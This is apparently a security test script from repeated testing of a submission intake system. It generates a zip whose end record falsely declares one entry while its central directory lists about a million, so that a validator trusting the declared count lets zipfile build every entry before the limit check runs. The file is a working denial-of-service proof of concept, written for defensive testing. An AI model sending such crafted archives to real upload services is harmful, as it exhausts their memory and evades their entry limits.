"""Row 6 (round 8 row 5 through its fix): a zip whose end record declares 1 entry and a central directory at offset
0, while the directory really lies just before the end record and lists N entries (default 1,000,000).

intake.zip_entry_count walks the headers from the declared offset (0: a local file header, so it counts none and
keeps the declared 1); zipfile, like every unzip, corrects the offset by where the end record sits (`concat`, for
zips with data prepended: self-extracting archives) and builds a ZipInfo for each of the N entries.

Round 8 version:

usage: python lying_count_zip.py OUT.zip [N]
intake.zip_entry_count trusts the end record's count (1 <= MAX_ENTRIES), zipfile ignores it and builds a ZipInfo for
every central directory entry before submissions._from_zip can compare len(infolist()) with MAX_ENTRIES.
Every entry points at one tiny local file header, so the zip is ~50 bytes an entry.
"""
import struct, sys, zlib

out, n = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1_000_000
data = b"def run_gelu(x):\n    return x\n"
crc = zlib.crc32(data)
name0 = b"student/gelu.py"
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name0), 0) + name0 + data
cd = bytearray()
for i in range(n):
    name = name0 if i == 0 else b"x/%07d" % i
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(data), len(data),
                      len(name), 0, 0, 0, 0, 0o644 << 16, 0) + name
eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), 0, 0)  # declares ONE entry, its directory at offset 0
with open(out, "wb") as f:
    f.write(local + bytes(cd) + eocd)
